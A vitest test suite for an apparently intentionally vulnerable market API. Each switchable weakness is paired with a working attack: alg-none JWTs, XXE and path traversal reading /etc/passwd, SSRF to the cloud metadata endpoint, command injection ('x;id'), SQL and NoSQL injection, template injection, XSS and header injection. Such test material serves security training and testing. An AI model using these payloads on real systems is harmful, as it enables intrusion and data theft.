import { request as rawRequest } from 'node:http'
import { afterEach, describe, expect, test } from 'vitest'
import { PUBLIC_HOST, recordMarketAttacks } from './attacks.ts'
import { type Market, startMarket } from './server.ts'
import { issueToken } from './tokens.ts'
import { recordMarketTraffic } from './traffic.ts'
import { WEAKNESSES, type WeaknessId } from './weaknesses.ts'

interface Seen {
  status: number
  text: string
  headers: Headers
}

let market: Market | null = null

afterEach(async () => {
  await market?.close()
  market = null
})

const ALICE = issueToken(1, 'member')

/** Calls as Alice unless another token (or null for none) is given. */
async function call(
  method: string,
  path: string,
  options: { body?: unknown; token?: string | null; headers?: Record<string, string> } = {},
): Promise<Seen> {
  const { body, token = ALICE, headers = {} } = options
  const answer = await fetch(market!.origin + path, {
    method,
    redirect: 'manual',
    headers: {
      ...(token === null ? {} : { authorization: `Bearer ${token}` }),
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      ...headers,
    },
    ...(body === undefined ? {} : { body: typeof body === 'string' ? body : JSON.stringify(body) }),
  })
  return { status: answer.status, text: await answer.text(), headers: answer.headers }
}

function trace(path: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const sent = rawRequest(market!.origin + path, { method: 'TRACE' }, (answer) => {
      answer.resume()
      answer.on('end', () => resolve(answer.statusCode ?? 0))
    })
    sent.on('error', reject)
    sent.end()
  })
}

function part(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url')
}

const LATER = Math.floor(Date.now() / 1000) + 3600
const CLAIMS = part({ sub: 2, role: 'member', jti: 'x', exp: LATER })
const UNSIGNED = `${part({ alg: 'none' })}.${CLAIMS}.`
const FORGED = `${part({ alg: 'HS256' })}.${CLAIMS}.AAAA`
const ENTITY =
  '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><catalog><title>&x;</title></catalog>'

/** For each weakness an attack; true when it worked. */
const ATTACKS: Record<WeaknessId, () => Promise<boolean>> = {
  'order-of-others': async () => (await call('GET', '/api/v2/orders/1002')).status === 200,
  'order-change-of-others': async () =>
    (await call('PATCH', '/api/v2/orders/1002', { body: { address: 'x' } })).status === 200,
  'invoice-of-others': async () => (await call('GET', '/api/v2/invoices?orderId=1002')).status === 200,
  'message-of-others': async () =>
    (await call('POST', '/api/v2/messages/read', { body: { messageId: 72 } })).text.includes('refund'),
  'profile-of-others': async () =>
    (await call('GET', `/api/v2/profiles/${market!.state.accounts[1]!.profileId}`)).text.includes('bob@'),
  'report-without-credentials': async () =>
    (await call('GET', '/api/v2/addresses', { token: null })).status === 200,
  'unsigned-token': async () => (await call('GET', '/api/v2/me', { token: UNSIGNED })).text.includes('bob'),
  'unchecked-signature': async () =>
    (await call('GET', '/api/v2/wallet', { token: FORGED })).text.includes('bob'),
  'account-enumeration': async () => {
    const sent = (email: string) =>
      call('POST', '/api/v2/login', { token: null, body: { email, password: 'no' } })
    return (await sent('bob@market.example')).text !== (await sent('nobody@market.example')).text
  },
  'unlimited-sign-in': async () => {
    const statuses = []
    for (let i = 0; i < 12; i++) {
      const body = { email: 'bob@market.example', pin: String(i) }
      statuses.push((await call('POST', '/api/v2/login/pin', { token: null, body })).status)
    }
    return !statuses.includes(429)
  },
  'bare-session-cookie': async () =>
    !/HttpOnly/.test((await call('POST', '/api/v2/session', { body: {} })).headers.get('set-cookie') ?? ''),
  'role-in-profile': async () =>
    (await call('PUT', '/api/v2/me', { body: { name: 'alice', role: 'admin' } })).text.includes(
      '"role":"admin"',
    ),
  'card-in-answer': async () =>
    (await call('GET', '/api/v2/payment-methods')).text.includes('4111111111111111'),
  'unbounded-page': async () =>
    JSON.parse((await call('GET', '/api/v2/products?limit=400')).text).products.length === 400,
  'unbounded-text': async () =>
    (await call('POST', '/api/v2/notes', { body: { text: 'x'.repeat(100_000) } })).status === 201,
  'graphql-batch': async () =>
    (await call('POST', '/api/v2/graphql', { body: Array(100).fill({ query: '{ products { id } }' }) }))
      .status === 200,
  'admin-list-for-all': async () => (await call('GET', '/api/v2/admin/accounts')).status === 200,
  'refund-for-all': async () =>
    (await call('POST', '/api/v2/admin/refunds', { body: { orderId: 1002 } })).status === 201,
  'negative-quantity': async () =>
    (await call('POST', '/api/v2/cart', { body: { productId: 7, quantity: -3 } })).status === 200,
  'price-by-client': async () =>
    (await call('POST', '/api/v2/checkout', { body: { orderId: 1001, amount: 0.01 } })).status === 200,
  'webhook-fetch': async () =>
    (
      await call('POST', '/api/v2/webhooks/test', {
        body: { url: 'http://169.254.169.254/latest/meta-data/' },
      })
    ).text.includes('ami-id'),
  'reflected-origin': async () =>
    (await call('GET', '/api/v2/settings', { headers: { origin: 'https://evil.example' } })).headers.get(
      'access-control-allow-origin',
    ) === 'https://evil.example',
  'missing-headers': async () =>
    (await call('GET', '/api/v2/home')).headers.get('x-content-type-options') === null,
  'stack-trace': async () =>
    (await call('POST', '/api/v2/reviews', { body: '{"stars":' })).text.includes('   at '),
  'version-banner': async () => (await call('GET', '/api/v2/status')).headers.get('server') !== null,
  'sql-in-search': async () => (await call('GET', "/api/v2/search?q=x'")).text.includes('SQLITE_ERROR'),
  'nosql-in-sign-in': async () =>
    (await call('POST', '/api/v2/partners/login', { body: { user: { $ne: '' }, password: { $ne: '' } } }))
      .status === 200,
  'command-in-ping': async () => (await call('GET', '/api/v2/tools/ping?host=x;id')).text.includes('uid='),
  'template-in-preview': async () =>
    (await call('POST', '/api/v2/mails/preview', { body: { text: '{{7*191}}' } })).text.includes('1337'),
  'path-in-file-name': async () =>
    (await call('GET', '/api/v2/files?name=../../../etc/passwd')).text.includes('root:x:0:0'),
  'external-entity': async () =>
    (
      await call('POST', '/api/v2/catalog/import', {
        body: ENTITY,
        headers: { 'content-type': 'application/xml' },
      })
    ).text.includes('root:x:0:0'),
  'reflected-script': async () =>
    (await call('POST', '/api/v2/greeting?name=<script>1</script>', { body: {} })).text.includes('<script>1'),
  'open-redirect': async () =>
    (await call('GET', '/api/v2/leave?to=https://evil.example/')).headers.get('location') ===
    'https://evil.example/',
  'header-injection': async () =>
    (await call('GET', '/api/v2/language?code=en%0d%0ax-injected:%20yes')).headers.get('x-injected') ===
    'yes',
  'trace-method': async () => (await trace('/api/v2/news')) === 200,
  'old-version': async () => (await call('GET', '/api/v1/accounts/2', { token: null })).status === 200,
}

describe.each(WEAKNESSES.map(({ id, summary }) => ({ id, summary })))('$id', ({ id }) => {
  test('can be exploited when only it is switched on', async () => {
    market = await startMarket([id])
    expect(await ATTACKS[id]()).toBe(true)
  })

  test('cannot be exploited when only it is switched off', async () => {
    market = await startMarket(WEAKNESSES.map((weakness) => weakness.id).filter((other) => other !== id))
    expect(await ATTACKS[id]()).toBe(false)
  })
})

test.each(['all', 'none'] as const)(
  'ordinary use works on a market with %s of the weaknesses',
  async (weak) => {
    market = await startMarket(weak)
    const { messages } = await recordMarketTraffic(market)
    const failed = messages.filter(({ statusCode, path }) => statusCode >= 400 && path !== '/api/v2/login')
    expect(failed.map(({ method, path, statusCode }) => `${method} ${path} ${statusCode}`)).toEqual([])
    expect(messages.length).toBeGreaterThan(70)
  },
)

test('a fixed weakness cannot be exploited any more, the others can', async () => {
  market = await startMarket('all')
  expect(await ATTACKS['order-of-others']()).toBe(true)
  market.fix(['order-of-others'])
  expect(await ATTACKS['order-of-others']()).toBe(false)
  expect(await ATTACKS['open-redirect']()).toBe(true)
})

test('attackers reach the market under its public name and lock nobody out', async () => {
  market = await startMarket('all')
  const messages = await recordMarketAttacks(market)
  const hosts = messages.map(({ requestHeaders }) => (JSON.parse(requestHeaders) as { host: string }).host)
  expect(new Set(hosts)).toEqual(new Set([PUBLIC_HOST]))
  expect(new Set(messages.map(({ ip }) => ip)).size).toBe(4)
  await recordMarketTraffic(market)
})

test('the pages of the market show what its operations answer, and link to each other', async () => {
  market = await startMarket('all')
  const { status, text, headers } = await call('GET', '/')
  expect([status, headers.get('content-type')]).toEqual([200, 'text/html; charset=utf-8'])
  expect(text).toContain("fetch('/api/v2/home')")
  for (const [, link] of text.matchAll(/href="([^"]+)"/g)) expect((await call('GET', link!)).status).toBe(200)
})
